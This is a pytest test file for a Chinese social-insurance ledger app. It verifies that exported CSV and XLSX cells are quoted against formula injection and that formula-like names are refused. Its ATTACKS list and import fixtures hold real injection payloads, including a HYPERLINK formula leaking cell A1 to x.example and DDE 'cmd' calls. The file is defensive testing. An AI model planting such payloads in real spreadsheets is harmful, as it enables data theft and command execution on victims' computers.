"""CSV injection (OWASP): every CSV the program writes has no cell a spreadsheet program would run
as a formula, and names that start like a formula are refused wherever they are typed."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from conftest import EMPLOYER, EMPLOYER_2, TODAY, examples
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop import cli
from desktop.core.clock import Clock
from desktop.core.csvsafe import (
    FORMULA_START,
    QUOTE,
    cell,
    csv_text,
    refuse_formula,
    safe_text,
    starts_like_formula,
    unquote,
    write_csv,
)
from desktop.core.errors import InvalidInput, InvalidRows, RowProblem
from desktop.core.ledger import Ledger
from desktop.core.services.transfers import ReportLine, TransferReport, TransferService

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "''=1+1"]
NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_safe(rows: list[list[str]], numbers: bool = False) -> None:
    """No cell starts like a formula (a plain number passed as a number is allowed when numbers)."""
    for row in rows:
        for value in row:
            if numbers and NUMBER.match(value):
                continue
            assert not starts_like_formula(value), (value, row)


# -- the cell -----------------------------------------------------------------------------------

@pytest.mark.parametrize("first", DANGEROUS)
def test_every_dangerous_first_character_gets_the_quote(first: str) -> None:
    value = first + "1+1"
    assert safe_text(value) == QUOTE + value
    assert cell(value) == QUOTE + value
    assert unquote(safe_text(value)) == value


@pytest.mark.parametrize("value", ATTACKS)
def test_known_attacks_are_neutralised_and_read_back(value: str) -> None:
    written = safe_text(value)
    assert written.startswith(QUOTE) and not starts_like_formula(written)
    assert unquote(written) == value


@pytest.mark.parametrize("value", ["张三", "Anna Schmidt", "Jean-Pierre", "a=b", "1+1", "12.50", "",
                                   "'quoted", "南昌-赣江", "O'Brien", "x@y.example"])
def test_harmless_text_is_left_as_it_is(value: str) -> None:
    assert safe_text(value) == value
    assert unquote(value) == value


def test_numbers_stay_numbers_text_that_looks_like_a_number_does_not() -> None:
    assert cell(-12) == -12
    assert cell(Decimal("-12.50")) == "-12.50"
    assert cell(Decimal("1E+3")) == "1000"
    assert cell(-1.5) == -1.5
    assert cell("-12.50") == "'-12.50"  # text: OWASP's rule, a number only when passed as one
    assert cell(True) == "True" and cell(None) == ""
    assert cell(Decimal("NaN")) == "NaN" and cell(float("-inf")) == "'-inf"


@settings(max_examples=examples(300))
@given(st.text())
def test_any_text_round_trips_and_never_starts_like_a_formula(value: str) -> None:
    written = safe_text(value)
    assert not starts_like_formula(written)
    assert unquote(written) == value
    assert written in (value, QUOTE + value)


@settings(max_examples=examples(200))
@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.sampled_from(ATTACKS)), min_size=1,
                         max_size=5), min_size=1, max_size=5))
def test_any_rows_read_back_with_csv(rows: list[list[Any]]) -> None:
    back = read_csv(csv_text(rows))
    assert_safe(back, numbers=True)
    assert [[unquote(v) for v in row] for row in back] == [
        [str(v) for v in row] for row in rows]


def test_write_csv_writes_a_bom_and_safe_cells(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, [["a", "b"], ["=1+1", "@x"]])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data.decode("utf-8-sig")) == [["a", "b"], ["'=1+1", "'@x"]]


def test_refuse_formula_names_the_field() -> None:
    assert refuse_formula("南昌", "name") == "南昌"
    for value in ATTACKS[:-1]:
        with pytest.raises(InvalidInput) as info:
            refuse_formula(value, "host_employer")
        assert info.value.key == "text.formula" and info.value.field == "host_employer"
    assert set(DANGEROUS) == set(FORMULA_START)


# -- the writers ------------------------------------------------------------------------------------

def test_the_bad_rows_file_quotes_reasons_that_quote_a_cell(tmp_path: Path) -> None:
    from desktop.ui.import_dialog import write_problems  # the function only, no window

    source = tmp_path / "decl.csv"
    source.write_text("统一社会信用代码,身份证号码,姓名,所属期,缴费工资\n"
                      "x,@SUM(A1),张三,2026-01,@SUM(A1)\nx,y,张三,=1+1,1\nx,y\n", encoding="utf-8")
    path = tmp_path / "bad.csv"
    problems = [RowProblem(3, "month", "month.format", {"value": "=1+1"}),
                RowProblem(2, "wage", "amount.format", {"value": "@SUM(A1)"}),
                RowProblem(4, "", "import.cells", {"line": 4, "found": 2, "expected": 5})]
    assert write_problems(source, path, problems) == 3
    rows = read_csv(path.read_text(encoding="utf-8-sig"))
    assert rows[0] == ["原行号", "统一社会信用代码", "身份证号码", "姓名", "所属期", "缴费工资", "错误原因"]
    assert [r[0] for r in rows[1:]] == ["2", "3", "4"]
    assert rows[1][:6] == ["2", "x", "'@SUM(A1)", "张三", "2026-01", "'@SUM(A1)"]
    assert rows[1][6].startswith("缴费工资：@SUM(A1)") and rows[2][4] == "'=1+1"
    assert rows[2][6].startswith("所属期：=1+1")  # the reason starts with the field: safe as it is
    assert rows[3] == ["4", "x", "y", "", "", "", "第4行的列数为2，应为5"]
    assert_safe(rows)


def test_an_xlsx_cell_that_starts_like_a_formula_is_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from desktop.core.csvsafe import write_xlsx

    path = tmp_path / "out.xlsx"
    write_xlsx(path, {"表": [["=1+1", "@SUM(A1)", " -2", "'=x", "正常", -12.5, Decimal("3.10"), True, "\x07铃"]]})
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = list(sheet[1])
    assert [c.value for c in cells] == ["=1+1", "@SUM(A1)", " -2", "'=x", "正常", -12.5, 3.1, "True", "铃"]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "n", "n", "s", "s"]
    assert [c.quotePrefix for c in cells[:5]] == [True, True, True, False, False]


def test_the_transfer_report_writes_amounts_as_numbers() -> None:
    report = TransferReport(2026, "OFF01", "=office", (
        ReportLine("in", 0, 2, 1, Decimal("-12.5"), Decimal(3), Decimal("-9.5")),
        ReportLine("out", 11, 1, 0, Decimal(100), Decimal(0), Decimal(100))))
    text = TransferService.report_csv(None, report)  # type: ignore[arg-type]  # uses no state
    rows = read_csv(text)
    assert rows[0] == ["方向", "月份", "人数", "其中农民工", "个人账户", "统筹基金", "合计金额"]
    assert rows[1] == ["转入", "全年", "2", "1", "-12.50", "3.00", "-9.50"]
    assert rows[2] == ["转出", "11", "1", "0", "100.00", "0.00", "100.00"]
    assert_safe(rows, numbers=True)


def test_the_certificate_statistics_are_safe(ledger: Ledger, person: str) -> None:
    for month in range(1, 12):
        ledger.contributions.record(person, EMPLOYER, f"2026-{month:02d}", "8000")
    ledger.exemptions.issue(person, "DE", EMPLOYER, "Muster GmbH", "2027-01-01", "2027-12-31", passport="EA1234567")
    text = ledger.exemptions.statistics_csv()
    assert text.startswith("\ufeff")
    rows = read_csv(text)
    assert rows[1] == ["2026", "DE", "德国", "1", "0", "1"]
    assert_safe(rows)


# -- names refused through the services ------------------------------------------------------------

def refused(call: Any, *args: Any, **kwargs: Any) -> InvalidInput:
    with pytest.raises(InvalidInput) as info:
        call(*args, **kwargs)
    assert info.value.key == "text.formula"
    return info.value


@pytest.mark.parametrize("name", ['=HYPERLINK("x")', "+1", "-x", "@x", " =x", "\t=x"])
def test_names_that_start_like_a_formula_are_refused(ledger: Ledger, person: str, name: str) -> None:
    assert refused(ledger.employers.register, EMPLOYER_2, name, None, 2).field == "name"
    assert refused(ledger.workers.register_citizen, "110101199003074514", name, "110101",
                   "urban").field == "name"
    assert refused(ledger.workers.register_foreigner, "DE", "C01X00T47", name, "F",
                   "1990-04-01").field == "name"
    assert refused(ledger.workers.update, person, name=name).field == "name"
    assert refused(ledger.exemptions.issue, person, "DE", EMPLOYER, name, "2027-01-01",
                   "2027-12-31").field == "host_employer"
    assert refused(ledger.users.add, name.strip() + "admin", "admin", "Correct-Horse-42").field == "user"
    identity = {**ledger.office.identity(), "code": "OTHER1", "name": name}
    assert refused(ledger.office.trust, identity).field == "office_name"
    assert [e.name for e in ledger.employers.list()] == ["南昌赣江机械制造有限公司"]
    assert ledger.workers.get(person).name == "张三"


def test_a_new_office_with_a_formula_name_is_refused(tmp_path: Path) -> None:
    led = Ledger.open(tmp_path / "new.db", clock=lambda: TODAY)
    try:
        error = refused(led.office.init, "OFF02", "=1+1", "360100")
        assert error.field == "office_name"
        assert error.message("zh") == "经办机构名称：不能以 = + - @ 开头（电子表格程序会当作公式执行）"
        assert error.message("en").startswith("office name: must not start with")
        assert not led.office.exists()
    finally:
        led.close()


def test_a_name_with_a_hyphen_inside_is_still_a_name(ledger: Ledger) -> None:
    w = ledger.workers.register_foreigner("FR", "C01X00T47", "Jean-Pierre Martin", "M", "1980-02-01")
    assert w.name == "Jean-Pierre Martin"
    assert ledger.employers.register(EMPLOYER_2, "赣江-南昌 联合公司", None, 2).name == "赣江-南昌 联合公司"


# -- declarations ---------------------------------------------------------------------------------

def test_a_declaration_row_with_a_formula_name_is_a_bad_row(ledger: Ledger, person: str, tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text("employer_uscc,id_number,name,month,wage\n"
                    f"{EMPLOYER},{person},张三,2026-09,7000\n"
                    f'{EMPLOYER},{person},"=HYPERLINK(""http://x"")",2026-10,7000\n'
                    f"{EMPLOYER},{person},-2+3,2026-11,7000\n", encoding="utf-8")
    with pytest.raises(InvalidRows) as info:
        ledger.contributions.import_file(path)
    assert [(r.line, r.field, r.key) for r in info.value.rows] == [(3, "name", "text.formula"),
                                                                   (4, "name", "text.formula")]
    assert info.value.rows[0].message("en").startswith("must not start with")
    assert ledger.history.month_keys(person)[1] == []


# -- the command line -----------------------------------------------------------------------------

def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, Any]:
    code = cli.main(list(args), clock=Clock(day=lambda: TODAY))
    out, _ = capsys.readouterr()
    return code, json.loads(out) if out.strip() else None


def test_the_command_line_refuses_formula_names(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SHEBAO_DB", raising=False)
    db = str(tmp_path / "cli.db")
    code, data = run(capsys, "--db", db, "--json", "init", "--office", "NC01", "--office-name=@office",
                     "--region", "360100")
    assert code == 2 and data["error"]["field"] == "office_name" and data["error"]["key"] == "text.formula"
    assert run(capsys, "--db", db, "--json", "init", "--office", "NC01", "--office-name", "南昌",
               "--region", "360100")[0] == 0
    code, data = run(capsys, "--db", db, "--json", "employer", "register", "--uscc", "91360100MA35F7Q108",
                     "--name", '=HYPERLINK("x")', "--risk-class", "2")
    assert code == 2 and data["error"]["field"] == "name" and "= + - @" in data["error"]["message"]
    code, data = run(capsys, "--db", db, "--json", "--lang", "en", "worker", "register", "--id-number",
                     "510107198511113215", "--name=-x", "--hukou-region", "510107", "--hukou-type", "rural")
    assert code == 2 and data["error"]["field"] == "name"
    assert data["error"]["message"].startswith("name: must not start with")
